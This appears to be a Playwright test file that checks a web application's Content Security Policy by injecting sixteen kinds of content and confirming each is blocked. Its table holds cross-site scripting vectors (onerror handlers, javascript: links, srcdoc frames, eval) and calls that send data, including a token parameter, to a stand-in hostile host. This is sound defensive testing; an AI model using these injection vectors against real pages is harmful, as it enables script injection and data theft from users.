import type { Page } from 'playwright/test';
import { expect, test } from '../support/test.ts';

test.use({ serviceWorkers: 'allow' });

const violationsOn = async (page: Page) => {
  const seen: string[] = [];
  await page.exposeFunction('tellViolation', (what: string) => seen.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const tell: unknown = Reflect.get(window, 'tellViolation');
      if (typeof tell === 'function')
        tell(`${effectiveDirective} ${blockedURI.replace(location.origin, '')}`);
    });
  });
  return seen;
};

/** Each injection tries to run a script that sets `stolen`, or to show foreign content. */
const injections: Readonly<
  Record<string, readonly [report: string, inject: (elsewhere: string) => unknown]>
> = {
  'a script in the page': [
    'script-src-elem inline',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.stolen = true';
      document.body.append(script);
    },
  ],
  'a script of another site': [
    'script-src-elem elsewhere/stolen.js',
    (elsewhere) => {
      const script = document.createElement('script');
      script.src = `${elsewhere}/stolen.js`;
      document.body.append(script);
    },
  ],
  'a script in a data address': [
    'script-src-elem data',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.stolen=true';
      document.body.append(script);
    },
  ],
  'a handler of an image': [
    'script-src-attr inline',
    () => document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" onerror="window.stolen=true">'),
  ],
  'a link with a script': [
    'script-src-elem inline',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="trap" href="javascript:window.stolen=true">x</a>',
      );
      document.getElementById('trap')?.click();
    },
  ],
  'a style in the page': [
    'style-src-elem inline',
    () => {
      const style = document.createElement('style');
      style.textContent = 'input { background: url("/stolen") }';
      document.body.append(style);
    },
  ],
  'a style of an element': [
    'style-src-attr inline',
    () => document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">x</p>'),
  ],
  'a frame with a page in it': [
    'script-src-elem inline',
    () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.stolen = true</script>';
      document.body.append(frame);
    },
  ],
  'a text that is run': ['script-src eval', () => window.setTimeout('window.stolen = true')],
  'a worker of its own making': [
    'worker-src blob',
    () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  ],
  'a plug-in': [
    'object-src /favicon.svg',
    () => document.body.insertAdjacentHTML('beforeend', '<object data="/favicon.svg"></object>'),
  ],
  'another base for every address': [
    'base-uri elsewhere/',
    (elsewhere) => document.head.insertAdjacentHTML('afterbegin', `<base href="${elsewhere}">`),
  ],
  'a form that sends elsewhere': [
    'form-action elsewhere/?',
    (elsewhere) => {
      document.body.insertAdjacentHTML('beforeend', `<form id="trap" action="${elsewhere}"></form>`);
      document.querySelector<HTMLFormElement>('form#trap')?.submit();
    },
  ],
  'a call that sends elsewhere': [
    'connect-src elsewhere/',
    (elsewhere) => void fetch(elsewhere).catch(() => 0),
  ],
  'a picture that sends elsewhere': [
    'img-src elsewhere/?token',
    (elsewhere) => document.body.insertAdjacentHTML('beforeend', `<img src="${elsewhere}?token" alt="">`),
  ],
  'a frame of another site': [
    'frame-src elsewhere',
    (elsewhere) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${elsewhere}"></iframe>`),
  ],
};

test.describe('what is injected into a page', () => {
  test.use({ tolerated: /Content Security Policy|Refused to|EvalError/ });

  test('does nothing, whatever it is', async ({ page, hostile }) => {
    const seen = await violationsOn(page);
    const all = Object.entries(injections);
    // Only static pages refuse foreign styles: the application creates its own at run time.
    const isStyle = ([, [report]]: (typeof all)[number]) => report.startsWith('style-');
    for (const [path, injected] of [
      ['/', all.filter(isStyle)],
      ['/login', all.filter((each) => !isStyle(each))],
    ] as const) {
      await page.goto(path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      seen.length = 0;
      const expected: string[] = [];
      for (const [what, [report, inject]] of injected) {
        await page.evaluate(inject, hostile.url);
        expected.push(report);
        await expect
          .poll(() => seen.map((each) => each.replace(hostile.url, 'elsewhere')), what)
          .toEqual(expected);
        expect(await page.evaluate(() => 'stolen' in window), what).toBe(false);
        expect(new URL(page.url()).pathname, what).toBe(path);
        expect(hostile.received, what).toEqual([]);
      }
    }
  });

  test('is not run where it came with the page itself', async ({ page }) => {
    const seen = await violationsOn(page);
    await page.route('/login', async (route) => {
      const reply = await route.fetch();
      const body = `${await reply.text()}<script>window.stolen = true</script>`;
      await route.fulfill({ response: reply, body });
    });
    await page.goto('/login');
    await expect.poll(() => seen).toEqual(['script-src-elem inline']);
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  });
});
